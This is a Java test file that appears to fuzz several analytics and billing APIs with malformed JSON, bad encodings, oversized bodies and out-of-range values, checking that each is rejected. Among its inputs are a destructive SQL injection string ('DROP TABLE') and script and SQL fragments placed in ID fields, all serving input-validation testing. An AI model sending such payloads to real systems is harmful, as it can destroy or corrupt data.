        add(endpoint, "a bare string", method, module, path, "\"hello\"");
        if (batch) {
            add(endpoint, "empty array", method, module, path, "[]");
            add(endpoint, "array of numbers", method, module, path, "[1,2,3]");
            add(endpoint, "array with a null item", method, module, path, "[null]");
            add(endpoint, "array of arrays", method, module, path, "[[]]");
        }
        add(endpoint, "raw SQL as body", method, module, path, "'; DROP TABLE usage_event; --");
        add(endpoint, "raw script as body", method, module, path, SCRIPT);
        add(endpoint, "deep nesting (100,000 levels)", method, module, path, "[".repeat(100_000) + "]".repeat(100_000));
        add(endpoint, "non-UTF-8 bytes in a string", method, module, path, nonUtf8(valid), "application/json", null);
        for (Map.Entry<String, byte[]> bad : NOT_UTF8.entrySet()) {
            add(endpoint, "not UTF-8: " + bad.getKey(), method, module, path, withBytes(valid, bad.getValue()),
                    "application/json", null);
        }
        add(endpoint, "valid JSON sent as text/plain", method, module, path, valid.getBytes(StandardCharsets.UTF_8),
                "text/plain", null);
        add(endpoint, "valid JSON sent as application/xml", method, module, path, valid.getBytes(StandardCharsets.UTF_8),
                "application/xml", null);
        add(endpoint, "body over the 16 MB limit", method, module, path, oversized(), "application/json", null, 413);
    }

    /** Bytes that are not UTF-8 which Jackson's own decoder read as text (C0 AF as '/', CESU-8 as surrogates). */
    private static final Map<String, byte[]> NOT_UTF8 = Map.of(
            "overlong C0 AF ('/')", new byte[] {(byte) 0xC0, (byte) 0xAF},
            "overlong E0 80 AF", new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
            "CESU-8 lone surrogate ED A0 80", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            "CESU-8 surrogate pair", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0xBD, (byte) 0xED, (byte) 0xB8, (byte) 0x80},
            "a stray continuation byte 80", new byte[] {(byte) 0x80},
            "a cut-off sequence E6 B1", new byte[] {(byte) 0xE6, (byte) 0xB1},
            "beyond U+10FFFF (F5 80 80 80)", new byte[] {(byte) 0xF5, (byte) 0x80, (byte) 0x80, (byte) 0x80},
            "FF", new byte[] {(byte) 0xFF});

    /** The body with {@code bad} inside its first string value. */
    private static byte[] withBytes(String valid, byte[] bad) {
        int quote = valid.indexOf("\":\"");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(valid.substring(0, quote + 3).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(bad);
        out.writeBytes(valid.substring(quote + 3).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    /** The body with the bytes C3 28 (an invalid UTF-8 sequence) inside its first string value. */
    private static byte[] nonUtf8(String valid) {
        int quote = valid.indexOf("\":\"");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] head = valid.substring(0, quote + 3).getBytes(StandardCharsets.UTF_8);
        byte[] tail = valid.substring(quote + 3).getBytes(StandardCharsets.UTF_8);
        out.writeBytes(head);
        out.write(0xC3);
        out.write(0x28);
        out.write(0xFF);
        out.writeBytes(tail);
        return out.toByteArray();
    }

    private static byte[] oversized() {
        StringBuilder b = new StringBuilder(17 * 1024 * 1024 + 100).append("[");
        String filler = "x".repeat(1000);
        int i = 0;
        while (b.length() < 17 * 1024 * 1024) {
            b.append(i++ > 0 ? "," : "").append("{\"eventId\":\"rb-big-").append(i).append("\",\"note\":\"").append(filler).append("\"}");
        }
        return b.append("]").toString().getBytes(StandardCharsets.UTF_8);
    }

    /** Common variants of one field: missing, and values of the wrong JSON type. */
    private static void field(Map<String, ObjectNode> v, ObjectNode item, String f, String kind, boolean required) {
        if (required) {
            v.put(f + " missing", with(item, f, null));
            v.put(f + " null", with(item, f, "null"));
        }
        switch (kind) {
            case "string" -> {
                v.put(f + " as an object", with(item, f, "{\"a\":1}"));
                v.put(f + " as an array", with(item, f, "[\"a\"]"));
                if (required) {
                    v.put(f + " blank", with(item, f, "\"   \""));
                }
            }
            case "long" -> {
                v.put(f + " as text", with(item, f, "\"abc\""));
                v.put(f + " as an object", with(item, f, "{}"));
                v.put(f + " fractional", with(item, f, "1.5"));
                v.put(f + " beyond a 64-bit integer", with(item, f, "9223372036854775808"));
                v.put(f + " with 2,000 digits", with(item, f, "9".repeat(2000)));
                v.put(f + " negative", with(item, f, "-1"));
            }
            case "decimal" -> {
                v.put(f + " as text", with(item, f, "\"abc\""));
                v.put(f + " as an object", with(item, f, "{}"));
                v.put(f + " with 2,000 digits", with(item, f, "9".repeat(2000)));
                v.put(f + " 1e400", with(item, f, "1e400"));
            }
            case "instant" -> {
                v.put(f + " not a date", with(item, f, "\"not-a-date\""));
                v.put(f + " impossible date", with(item, f, "\"2024-02-30T25:61:00Z\""));
                v.put(f + " as an object", with(item, f, "{}"));
            }
            case "date" -> {
                v.put(f + " not a date", with(item, f, "\"not-a-date\""));
                v.put(f + " impossible date", with(item, f, "\"2024-02-30\""));
                v.put(f + " as an object", with(item, f, "{}"));
            }
            case "bool" -> {
                v.put(f + " as text", with(item, f, "\"yes\""));
                v.put(f + " as an object", with(item, f, "{}"));
            }
            case "enum" -> {
                v.put(f + " unknown value", with(item, f, "\"NOT_A_VALUE\""));
                v.put(f + " SQL fragment", with(item, f, str(SQL)));
                v.put(f + " as an object", with(item, f, "{}"));
            }
            default -> throw new IllegalArgumentException(kind);
        }
        // Issue 30: text no database keeps as sent, numbers too large to convert, a key named twice; every kind.
        if (!kind.equals("long") && !kind.equals("decimal") && !kind.equals("bool")) {
            for (Map.Entry<String, String> t : NOT_STORABLE.entrySet()) {
                v.put(f + " with " + t.getKey(), with(item, f, "\"rb" + t.getValue() + "x\""));
            }
        }
        if (kind.equals("long") || kind.equals("decimal")) {
            for (String number : TOO_LARGE) {
                v.put(f + " " + number, with(item, f, number));
            }
        }
        if (kind.equals("decimal")) {
            v.put(f + " \"1e999999999\" as text", with(item, f, "\"1e999999999\""));
            v.put(f + " \"1E-999999999\" as text", with(item, f, "\"1E-999999999\""));
        }
        v.put(f + " named twice", twice(item, f));
    }

    /** Text PostgreSQL does not store as sent (U+0000, unpaired surrogates) and the other control characters. */
    private static final Map<String, String> NOT_STORABLE = Map.of(
            "U+0000", "\\u0000", "a lone high surrogate", "\\ud800", "a lone low surrogate", "\\udc00",
            "surrogates reversed", "\\udc00\\ud800", "ESC (an ANSI colour)", "\\u001b[31m", "BEL", "\\u0007",
            "DEL", "\\u007f", "C1 NEL", "\\u0085", "C1 CSI", "\\u009b");

    /** Numbers whose text is short but whose value has a billion digits (BigDecimal.toPlainString answered 500). */
    private static final List<String> TOO_LARGE = List.of("1e999999999", "1E-999999999", "-1e999999999",
            "1e101", "12345678901234567890123456789012345678901", "0.5E+0000000000000000000000000101");

    /** {@code item} with {@code field} written twice (Jackson kept the last; a login signed in as the first). */
    private static ObjectNode twice(ObjectNode item, String field) {
        String name = field.contains(".") ? field.substring(field.indexOf('.') + 1) : field;
        JsonNode parent = field.contains(".") ? item.path(field.substring(0, field.indexOf('.'))) : item;
        JsonNode value = parent.path(name);
        String raw = value.isMissingNode() ? "null" : value.toString();
        return with(item, field, raw + ",\"" + name + "\":" + raw);
    }

    /** The corpus, grouped by endpoint; the order of the groups is the order the cases are sent in. */
    private void corpus() {
        pagedListCases();
        tongyiCases();
        quarkCases();
        segmentCases();
        dailyAggregateCases();
        billingCases();
        cloudEventCases();
        focusImportCases();
        loginCases();
    }

    /** Every paged list: a limit outside 1..1,000 and a cursor the list did not give are 400. */
    private void pagedListCases() {
        String appsCursor = java.util.Base64.getUrlEncoder().withoutPadding().encodeToString("apps".getBytes(StandardCharsets.UTF_8));
        for (String[] list : new String[][] {{T, "/api/v1/customers"}, {T, "/api/v1/customers?kind=EXTERNAL"},
                {T, "/api/v1/models"}, {Q, "/api/v1/apps"}, {Q, "/api/v1/apps/rb-app/features"}, {B, "/api/v1/vouchers"},
                {B, "/api/v1/ledger/imports"}}) {
            String sep = list[1].contains("?") ? "&" : "?";
            String endpoint = list[1].replace("rb-app", "{appId}").replaceAll("\\?.*", "");
            for (String[] bad : new String[][] {{"limit over 1,000", "limit=1001"}, {"limit 0", "limit=0"},
                    {"negative limit", "limit=-5"}, {"limit not a number", "limit=1e3"},
                    {"limit beyond int", "limit=99999999999999999999"}, {"cursor not base64", "cursor=%%21%%21"},
                    {"cursor of no list", "cursor=garbage"}, {"cursor of another list", "cursor=1." + appsCursor + ".eA"},
                    {"cursor with invalid UTF-8", "cursor=1.Y3VzdG9tZXJz.wK8"}, {"cursor with a NUL key", "cursor=1.bW9kZWxz.AA"}}) {
                if (bad[0].equals("cursor of another list") && list[1].equals("/api/v1/apps")) {
                    continue;
                }
                add(endpoint, bad[0], "GET", list[0], list[1] + sep + bad[1].replace("%%", "%"), (String) null, 400);
            }
        }
    }

    /** tongyi-service: usage, customers, hub statistics, benchmarks, GPU usage, models. */
    private void tongyiCases() {
        ObjectNode usage = obj("{\"eventId\":\"e\",\"customerId\":\"rb-cust\",\"modelId\":\"rb-model\","
                + "\"occurredAt\":\"2024-08-10T04:00:00Z\",\"inputTokens\":10,\"outputTokens\":5}");
        batch("/api/v1/usage/events", T, "/api/v1/usage/events", usage, "eventId", 10_000, v -> {
            field(v, usage, "eventId", "string", true);
            field(v, usage, "customerId", "string", true);
            field(v, usage, "modelId", "string", true);
            field(v, usage, "occurredAt", "instant", true);
            field(v, usage, "inputTokens", "long", true);
            field(v, usage, "outputTokens", "long", true);
            v.put("eventId longer than 128", with(usage, "eventId", longId));
            v.put("customerId unknown", with(usage, "customerId", "\"rb-nobody\""));
            v.put("customerId SQL fragment", with(usage, "customerId", sql));
            v.put("customerId script", with(usage, "customerId", str(SCRIPT)));
            v.put("modelId unknown", with(usage, "modelId", "\"rb-no-model\""));
            v.put("modelId SQL fragment", with(usage, "modelId", sql));
            v.put("occurredAt an hour in the future", with(usage, "occurredAt", str(inAnHour)));
            v.put("occurredAt in year +999999999", with(usage, "occurredAt", "\"+999999999-12-31T23:59:59Z\""));
            v.put("occurredAt before 2015", with(usage, "occurredAt", "\"2014-12-31T23:59:59Z\""));
            v.put("occurredAt in year -999999999", with(usage, "occurredAt", "\"-999999999-01-01T00:00:00Z\""));
            v.put("inputTokens above 100,000,000", with(usage, "inputTokens", "100000001"));
            v.put("outputTokens Long.MAX", with(usage, "outputTokens", "9223372036854775807"));
            v.put("outputTokens Long.MIN", with(usage, "outputTokens", "-9223372036854775808"));
        });

        ObjectNode customer = obj("{\"customerId\":\"c\",\"name\":\"N\",\"kind\":\"EXTERNAL\",\"onboardedOn\":\"2024-07-01\"}");
        batch("/api/v1/customers", T, "/api/v1/customers", customer, "customerId", 10_000, v -> {
            field(v, customer, "customerId", "string", true);
            field(v, customer, "name", "string", true);
            field(v, customer, "kind", "enum", true);
            field(v, customer, "onboardedOn", "date", true);
            v.put("customerId SQL fragment", with(customer, "customerId", sql));
            v.put("customerId upper case", with(customer, "customerId", "\"RB-UPPER\""));
            v.put("customerId 65 characters", with(customer, "customerId", str("c".repeat(65))));
            v.put("name 201 characters", with(customer, "name", str("n".repeat(201))));
            v.put("INTERNAL without businessUnit", with(customer, "kind", "\"INTERNAL\""));
            v.put("EXTERNAL with businessUnit", with(customer, "businessUnit", "\"taobao\""));
            v.put("INTERNAL with businessUnit SQL", with(with(customer, "kind", "\"INTERNAL\""), "businessUnit", sql));
            v.put("onboardedOn in year -999999999", with(customer, "onboardedOn", "\"-999999999-01-01\""));
            v.put("onboardedOn in year 0001", with(customer, "onboardedOn", "\"0001-01-01\""));
            v.put("customerId twice in the batch", with(customer, "customerId", "\"rb-cust\""));
        });
        // the duplicate case must repeat an id of the same batch: replace it
        cases.removeIf(c -> c.name().equals("customerId twice in the batch"));
        add("/api/v1/customers", "customerId twice in the batch", "POST", T, "/api/v1/customers",
                "[" + with(customer, "customerId", "\"rb-dup-c\"") + "," + with(customer, "customerId", "\"rb-dup-c\"") + "]");

        ObjectNode hub = obj("{\"date\":\"2024-08-20\",\"platform\":\"HUGGING_FACE\",\"downloads\":100,\"likes\":1,"
                + "\"derivatives\":{\"finetune\":1,\"quantized\":0,\"adapter\":0,\"merge\":0}}");
        String hubPath = "/api/v1/models/rb-model/hub-stats";
        batch("/api/v1/models/{id}/hub-stats", T, hubPath, with(hub, "date", "\"2024-08-15\""), null, 5_000, v -> {
            field(v, hub, "date", "date", true);
            field(v, hub, "platform", "enum", true);
            field(v, hub, "downloads", "long", true);
            field(v, hub, "likes", "long", true);
            field(v, hub, "derivatives.finetune", "long", false);
            v.put("derivatives as a number", with(hub, "derivatives", "5"));
            v.put("date in 3 days", with(hub, "date", str(in3days)));
            v.put("date in year -999999999", with(hub, "date", "\"-999999999-01-01\""));
            v.put("date in year 0001", with(hub, "date", "\"0001-01-01\""));
            v.put("downloads above 10^12", with(hub, "downloads", "1000000000001"));
            v.put("derivatives.merge negative", with(hub, "derivatives.merge", "-5"));
        });
        add("/api/v1/models/{id}/hub-stats", "the same platform and date twice", "POST", T, hubPath, "[" + hub + "," + hub + "]");
        add("/api/v1/models/{id}/hub-stats", "unknown model", "POST", T, "/api/v1/models/rb-no-model/hub-stats",
                "[" + hub + "]", 404);
        add("/api/v1/models/{id}/hub-stats", "model id SQL fragment (URL-encoded)", "POST", T,
                "/api/v1/models/" + enc(SQL) + "/hub-stats", "[" + hub + "]");

        ObjectNode bench = obj("{\"modelId\":\"rb-model\",\"benchmark\":\"rb-bench\",\"score\":81.25,\"evaluatedOn\":\"2024-08-20\"}");
        batch("/api/v1/benchmarks", T, "/api/v1/benchmarks", with(bench, "evaluatedOn", "\"2024-08-15\""), null, 1_000, v -> {
            field(v, bench, "modelId", "string", true);
            field(v, bench, "benchmark", "string", true);
            field(v, bench, "score", "decimal", true);
            field(v, bench, "evaluatedOn", "date", true);
            v.put("modelId unknown", with(bench, "modelId", "\"rb-no-model\""));
            v.put("modelId SQL fragment", with(bench, "modelId", sql));
            v.put("benchmark 101 characters", with(bench, "benchmark", str("b".repeat(101))));
            v.put("score 10^9", with(bench, "score", "1000000000"));
            v.put("score with 5 decimals", with(bench, "score", "81.12345"));
            v.put("evaluatedOn in 3 days", with(bench, "evaluatedOn", str(in3days)));
            v.put("evaluatedOn in year -999999999", with(bench, "evaluatedOn", "\"-999999999-01-01\""));
            v.put("evaluatedOn in year 0001", with(bench, "evaluatedOn", "\"0001-01-01\""));
        });
        add("/api/v1/benchmarks", "the same model, benchmark and date twice", "POST", T, "/api/v1/benchmarks",
                "[" + bench + "," + bench + "]");

        ObjectNode gpu = obj("{\"entryId\":\"g\",\"date\":\"2024-08-10\",\"purpose\":\"INFERENCE\",\"modelId\":\"rb-model\","
                + "\"gpuHours\":12.5,\"costCny\":100.00}");
        batch("/api/v1/resources/usage", T, "/api/v1/resources/usage", gpu, "entryId", 5_000, v -> {
            field(v, gpu, "entryId", "string", true);
            field(v, gpu, "date", "date", true);
            field(v, gpu, "purpose", "enum", true);
            field(v, gpu, "gpuHours", "decimal", true);
            field(v, gpu, "costCny", "decimal", true);
            v.put("entryId longer than 128", with(gpu, "entryId", longId));
            v.put("modelId unknown", with(gpu, "modelId", "\"rb-no-model\""));
            v.put("modelId SQL fragment", with(gpu, "modelId", sql));
            v.put("date in 3 days", with(gpu, "date", str(in3days)));
            v.put("date in year -999999999", with(gpu, "date", "\"-999999999-01-01\""));
            v.put("date in year 0001", with(gpu, "date", "\"0001-01-01\""));
            v.put("gpuHours negative", with(gpu, "gpuHours", "-1"));
            v.put("gpuHours 10^12", with(gpu, "gpuHours", "1000000000000"));
            v.put("gpuHours with 4 decimals", with(gpu, "gpuHours", "1.2345"));
            v.put("costCny negative", with(gpu, "costCny", "-0.01"));
            v.put("costCny with 3 decimals", with(gpu, "costCny", "1.234"));
            v.put("costCny 10^18", with(gpu, "costCny", "1000000000000000000"));
        });

        ObjectNode model = obj("{\"family\":\"rb\",\"vendor\":\"Alibaba\",\"displayName\":\"M\",\"parametersBillions\":7,"
                + "\"openSource\":true,\"license\":\"MIT\",\"releaseDate\":\"2024-07-01\"}");
        put("/api/v1/models/{id}", T, "/api/v1/models/", model, v -> {
            field(v, model, "family", "string", true);
            field(v, model, "vendor", "string", true);
            field(v, model, "displayName", "string", true);
            field(v, model, "parametersBillions", "decimal", false);
            field(v, model, "openSource", "bool", true);
            field(v, model, "releaseDate", "date", false);
            v.put("family upper case", with(model, "family", "\"QWEN\""));
            v.put("family SQL fragment", with(model, "family", sql));
            v.put("vendor 65 characters", with(model, "vendor", str("v".repeat(65))));
            v.put("displayName 201 characters", with(model, "displayName", str("d".repeat(201))));
            v.put("license 101 characters", with(model, "license", str("l".repeat(101))));
            v.put("parametersBillions negative", with(model, "parametersBillions", "-7"));
            v.put("parametersBillions zero", with(model, "parametersBillions", "0"));
            v.put("parametersBillions 10^8", with(model, "parametersBillions", "100000000"));
            v.put("parametersBillions with 8 decimals", with(model, "parametersBillions", "1.23456789"));
            v.put("releaseDate in year -999999999", with(model, "releaseDate", "\"-999999999-01-01\""));
            v.put("releaseDate in year +999999999", with(model, "releaseDate", "\"+999999999-12-31\""));
            v.put("releaseDate in year 0001", with(model, "releaseDate", "\"0001-01-01\""));
        });

        ObjectNode cust = obj("{\"name\":\"N\",\"kind\":\"EXTERNAL\",\"onboardedOn\":\"2024-07-01\"}");
        put("/api/v1/customers/{id}", T, "/api/v1/customers/", cust, v -> {
            field(v, cust, "name", "string", true);
            field(v, cust, "kind", "enum", true);
            field(v, cust, "onboardedOn", "date", true);
            v.put("name 201 characters", with(cust, "name", str("n".repeat(201))));
            v.put("INTERNAL without businessUnit", with(cust, "kind", "\"INTERNAL\""));
            v.put("EXTERNAL with businessUnit", with(cust, "businessUnit", "\"taobao\""));
            v.put("INTERNAL with businessUnit SQL", with(with(cust, "kind", "\"INTERNAL\""), "businessUnit", sql));
            v.put("onboardedOn in year -999999999", with(cust, "onboardedOn", "\"-999999999-01-01\""));
            v.put("onboardedOn in year 0001", with(cust, "onboardedOn", "\"0001-01-01\""));
        });
    }

    /** quark-service: installs, activity, AI sessions, apps and features. */
    private void quarkCases() {
        ObjectNode event = obj("{\"eventId\":\"e\",\"appId\":\"rb-app\",\"userId\":\"rb-user-1\",\"occurredAt\":\"2024-08-10T04:00:00Z\"}");
        for (String p : List.of("/api/v1/installs", "/api/v1/activity/events")) {
            batch(p, Q, p, event, "eventId", 10_000, v -> {
                field(v, event, "eventId", "string", true);
                field(v, event, "appId", "string", true);
                field(v, event, "userId", "string", true);
                field(v, event, "occurredAt", "instant", true);
                v.put("eventId longer than 128", with(event, "eventId", longId));
                v.put("userId longer than 128", with(event, "userId", longId));
                v.put("appId unknown", with(event, "appId", "\"rb-no-app\""));
                v.put("appId SQL fragment", with(event, "appId", sql));
                v.put("appId script", with(event, "appId", str(SCRIPT)));
                v.put("occurredAt an hour in the future", with(event, "occurredAt", str(inAnHour)));
                v.put("occurredAt before 2000", with(event, "occurredAt", "\"1999-12-31T23:59:59Z\""));
                v.put("occurredAt in year -999999999", with(event, "occurredAt", "\"-999999999-01-01T00:00:00Z\""));
            });
        }
        ObjectNode session = obj("{\"sessionId\":\"s\",\"appId\":\"rb-app\",\"featureId\":\"rb-feat\",\"userId\":\"rb-user-1\","
                + "\"startedAt\":\"2024-08-10T04:00:00Z\",\"turns\":3,\"agentCalls\":1,\"outcome\":\"RESOLVED\",\"rating\":4,"
                + "\"converted\":true,\"conversionValueCny\":9.99}");
        batch("/api/v1/ai-sessions", Q, "/api/v1/ai-sessions", session, "sessionId", 10_000, v -> {
            field(v, session, "sessionId", "string", true);
            field(v, session, "appId", "string", true);
            field(v, session, "featureId", "string", true);
            field(v, session, "userId", "string", true);
            field(v, session, "startedAt", "instant", true);
            field(v, session, "turns", "long", true);
            field(v, session, "agentCalls", "long", true);
            field(v, session, "outcome", "enum", true);
            field(v, session, "rating", "long", false);
            field(v, session, "converted", "bool", true);
            field(v, session, "conversionValueCny", "decimal", false);
            v.put("sessionId longer than 128", with(session, "sessionId", longId));
            v.put("appId unknown", with(session, "appId", "\"rb-no-app\""));
            v.put("featureId unknown", with(session, "featureId", "\"rb-no-feature\""));
            v.put("featureId SQL fragment", with(session, "featureId", sql));
            v.put("startedAt an hour in the future", with(session, "startedAt", str(inAnHour)));
            v.put("startedAt before 2000", with(session, "startedAt", "\"1999-12-31T23:59:59Z\""));
            v.put("turns above 100,000", with(session, "turns", "100001"));
            v.put("agentCalls above 1,000,000", with(session, "agentCalls", "1000001"));
            v.put("rating 0", with(session, "rating", "0"));
            v.put("rating 6", with(session, "rating", "6"));
            v.put("conversionValueCny negative", with(session, "conversionValueCny", "-1"));
            v.put("conversionValueCny with 3 decimals", with(session, "conversionValueCny", "1.234"));
            v.put("conversionValueCny 10^18", with(session, "conversionValueCny", "1000000000000000000"));
            v.put("conversionValueCny without a conversion", with(session, "converted", "false"));
        });

        ObjectNode app = obj("{\"name\":\"A\",\"businessUnit\":\"quark\",\"launchedOn\":\"2024-07-01\"}");
        put("/api/v1/apps/{id}", Q, "/api/v1/apps/", app, v -> {
            field(v, app, "name", "string", true);
            field(v, app, "businessUnit", "string", true);
            field(v, app, "launchedOn", "date", true);
            v.put("name 201 characters", with(app, "name", str("n".repeat(201))));
            v.put("businessUnit upper case", with(app, "businessUnit", "\"TAOBAO\""));
            v.put("businessUnit SQL fragment", with(app, "businessUnit", sql));
            v.put("launchedOn in year -999999999", with(app, "launchedOn", "\"-999999999-01-01\""));
            v.put("launchedOn in year 0001", with(app, "launchedOn", "\"0001-01-01\""));
        });
        ObjectNode feature = obj("{\"name\":\"F\",\"kind\":\"AGENT\",\"launchedOn\":\"2024-07-01\"}");
        put("/api/v1/apps/{id}/features/{featureId}", Q, "/api/v1/apps/rb-app/features/", feature, v -> {
            field(v, feature, "name", "string", true);
            field(v, feature, "kind", "enum", true);
            field(v, feature, "launchedOn", "date", true);
            v.put("name 201 characters", with(feature, "name", str("n".repeat(201))));
            v.put("launchedOn in year -999999999", with(feature, "launchedOn", "\"-999999999-01-01\""));
            v.put("launchedOn in year 0001", with(feature, "launchedOn", "\"0001-01-01\""));
        });
        add("/api/v1/apps/{id}/features/{featureId}", "unknown app", "PUT", Q, "/api/v1/apps/rb-no-app/features/f1",
                feature.toString(), 404);
    }

    /** quark-service's Segment-spec calls: a valid call of the seeded app beside each bad one. */
    private void segmentCases() {
        ObjectNode open = obj("{\"type\":\"track\",\"event\":\"Application Opened\",\"messageId\":\"m\",\"userId\":"
                + "\"rb-user-1\",\"timestamp\":\"2024-08-10T04:00:00Z\",\"properties\":{\"appId\":\"rb-app\"}}");
        ObjectNode ended = obj("{\"type\":\"track\",\"event\":\"AI Session Ended\",\"messageId\":\"m\",\"userId\":"
                + "\"rb-user-1\",\"timestamp\":\"2024-08-10T04:00:00Z\",\"properties\":{\"appId\":\"rb-app\","
                + "\"featureId\":\"rb-feat\",\"turns\":3,\"agentCalls\":1,\"outcome\":\"RESOLVED\",\"rating\":4,"
                + "\"converted\":true,\"conversionValue\":9.99}}");
        Map<String, ObjectNode> calls = new LinkedHashMap<>();
        field(calls, open, "messageId", "string", true);
        field(calls, open, "timestamp", "instant", false);
        field(calls, open, "event", "string", true);
        calls.put("messageId longer than 125", with(open, "messageId", str("m".repeat(126))));
        calls.put("no userId or anonymousId", with(open, "userId", null));
        calls.put("userId as an object", with(open, "userId", "{\"id\":1}"));
        calls.put("anonymousId longer than 118", with(with(open, "userId", null), "anonymousId", str("a".repeat(119))));
        calls.put("no timestamp or originalTimestamp", with(open, "timestamp", null));
        calls.put("timestamp without an offset", with(open, "timestamp", "\"2024-08-10T04:00:00\""));
        calls.put("timestamp an hour in the future", with(open, "timestamp", str(inAnHour)));
        calls.put("timestamp before 2000", with(open, "timestamp", "\"1999-12-31T23:59:59Z\""));
        calls.put("no app: neither properties.appId nor context.app.namespace", with(open, "properties", "{}"));
        calls.put("an unknown context.app.namespace", with(with(open, "properties", "{}"), "context",
                "{\"app\":{\"namespace\":\"com.example.nowhere\"}}"));
        calls.put("properties.appId unknown", with(open, "properties.appId", "\"rb-no-app\""));
        calls.put("properties.appId SQL fragment", with(open, "properties.appId", sql));
        calls.put("properties.appId of an app fed by daily aggregates", with(open, "properties.appId", "\"rb-agg\""));
        calls.put("properties as an array", with(open, "properties", "[1]"));
        calls.put("type unknown", with(open, "type", "\"rocket\""));
        calls.put("type missing", with(open, "type", null));
        calls.put("a call with neither type nor event", obj("{\"userId\":\"rb-user-1\"}"));
        field(calls, ended, "properties.turns", "long", true);
        field(calls, ended, "properties.agentCalls", "long", true);
        field(calls, ended, "properties.outcome", "enum", true);
        field(calls, ended, "properties.converted", "bool", true);
        field(calls, ended, "properties.featureId", "string", true);
        calls.put("AI Session Ended without properties", with(ended, "properties", null));
        calls.put("properties.featureId unknown", with(ended, "properties.featureId", "\"rb-no-feature\""));
        calls.put("properties.turns above 100,000", with(ended, "properties.turns", "100001"));
        calls.put("properties.rating 6", with(ended, "properties.rating", "6"));
        calls.put("properties.rating 2^40", with(ended, "properties.rating", "1099511627776"));
        calls.put("properties.conversionValue negative", with(ended, "properties.conversionValue", "-1"));
        calls.put("properties.conversionValue with 3 decimals", with(ended, "properties.conversionValue", "1.234"));
        calls.put("properties.conversionValue 10^18", with(ended, "properties.conversionValue", "1000000000000000000"));
        calls.put("properties.conversionValue in words", with(ended, "properties.conversionValue", "\"lots\""));
        calls.put("properties.currency USD", with(ended, "properties.currency", "\"USD\""));
        calls.put("properties.sessionId longer than 128", with(ended, "properties.sessionId", longId));
        for (Map.Entry<String, ObjectNode> v : calls.entrySet()) {
            int k = ++n;
            ObjectNode good = with(open, "messageId", str("rb-bad-" + k + "a"));
            ObjectNode bad = v.getValue();
            if (bad.has("messageId") && bad.get("messageId").asText().equals("m")) {
                bad = with(bad, "messageId", str("rb-bad-" + k + "b"));
            }
            add("/api/v1/segment/batch", v.getKey(), "POST", Q, "/api/v1/segment/batch",
                    "{\"batch\":[" + good + "," + bad + "]}");
        }
        add("/api/v1/segment/batch", "a call that is not an object", "POST", Q, "/api/v1/segment/batch",
                "{\"batch\":[" + with(open, "messageId", str("rb-bad-number")) + ",5]}");
        add("/api/v1/segment/track", "an identify call to the track endpoint", "POST", Q, "/api/v1/segment/track",
                "{\"type\":\"identify\",\"userId\":\"rb-user-1\"}");
        add("/api/v1/segment/track", "a batch to the track endpoint", "POST", Q, "/api/v1/segment/track",
                "[" + with(open, "messageId", str("rb-bad-track")) + "]");
        add("/api/v1/segment/track", "an open in the future", "POST", Q, "/api/v1/segment/track",
                with(with(open, "messageId", str("rb-bad-track-2")), "timestamp", str(inAnHour)).toString());
        bodyCases("/api/v1/segment/batch", "POST", Q, "/api/v1/segment/batch",
                "{\"batch\":[" + with(open, "messageId", str("rb-bad-body")) + "]}", false);
        add("/api/v1/segment/batch", "an empty batch", "POST", Q, "/api/v1/segment/batch", "{\"batch\":[]}");
        add("/api/v1/segment/batch", "batch is not an array", "POST", Q, "/api/v1/segment/batch", "{\"batch\":{}}");
        StringBuilder tooMany = new StringBuilder("{\"batch\":[");
        for (int i = 0; i <= 10_000; i++) {
            tooMany.append(i > 0 ? "," : "").append(with(open, "messageId", str("rb-lim-" + i)));
        }
        add("/api/v1/segment/batch", "10001 calls (limit 10000)", "POST", Q, "/api/v1/segment/batch",
                tooMany.append("]}").toString(), 413);
    }

    /** quark-service's daily aggregates: each case on a day never stored (read back: still 404). */
    private void dailyAggregateCases() {
        ObjectNode day = obj(DAY);
        Map<String, ObjectNode> days = new LinkedHashMap<>();
        for (String f : List.of("installs", "opens", "aiSessions.sessions", "aiSessions.resolved", "aiSessions.unknown",
                "aiSessions.ratingSum", "aiSessions.converted")) {
            field(days, day, f, "long", true);
        }
        field(days, day, "aiSessions.conversionValueCny", "decimal", true);
        for (String f : List.of("activeUsers", "newUsers", "aiUsers")) {
            field(days, day, f, "string", true);
            days.put(f + " not base64", with(day, f, "\"not base64!\""));
            days.put(f + " a Theta sketch", with(day, f, str(THETA_TWO)));
            days.put(f + " lgK 22", with(day, f, str(HLL_LG_K_22)));
            days.put(f + " cut short", with(day, f, str(HLL_TRUNCATED)));
            days.put(f + " three bytes", with(day, f, "\"AQID\""));
        }
        field(days, day, "activeUsersTheta", "string", false);
        days.put("activeUsersTheta an HLL sketch", with(day, "activeUsersTheta", str(HLL_TWO)));
        days.put("activeUsersTheta of another seed", with(day, "activeUsersTheta", str(THETA_SEED_42)));
        days.put("aiSessions missing", with(day, "aiSessions", null));
        days.put("outcomes that do not add up to the sessions", with(day, "aiSessions.abandoned", "1"));
        days.put("more rated than sessions", with(with(day, "aiSessions.rated", "2"), "aiSessions.ratingSum", "8"));
        days.put("ratingSum above 5 per rating", with(day, "aiSessions.ratingSum", "6"));
        days.put("more conversions than sessions", with(day, "aiSessions.converted", "2"));
        days.put("a conversion value without conversions", with(day, "aiSessions.conversionValueCny", "5.00"));
        days.put("conversionValueCny with 3 decimals", with(with(day, "aiSessions.converted", "1"),
                "aiSessions.conversionValueCny", "1.234"));
        days.put("turns above 100,000 a session", with(day, "aiSessions.turns", "100001"));
        days.put("opens without active users", with(day, "activeUsers", str(HLL_EMPTY)));
        days.put("active users without opens", with(day, "opens", "0"));
        days.put("AI users without sessions", with(with(with(with(day, "aiSessions.sessions", "0"), "aiSessions.resolved", "0"),
                "aiSessions.rated", "0"), "aiSessions.ratingSum", "0"));
        days.put("installs 10^13", with(day, "installs", "10000000000000"));
        int d = 0;
        for (Map.Entry<String, ObjectNode> v : days.entrySet()) {
            String path = "/api/v1/apps/rb-agg/days/" + LocalDate.of(2023, 1, 1).plusDays(d++);
            add("/api/v1/apps/{id}/days/{date}", v.getKey(), "PUT", Q, path,
                    v.getValue().toString().getBytes(StandardCharsets.UTF_8), "application/json", path);
        }
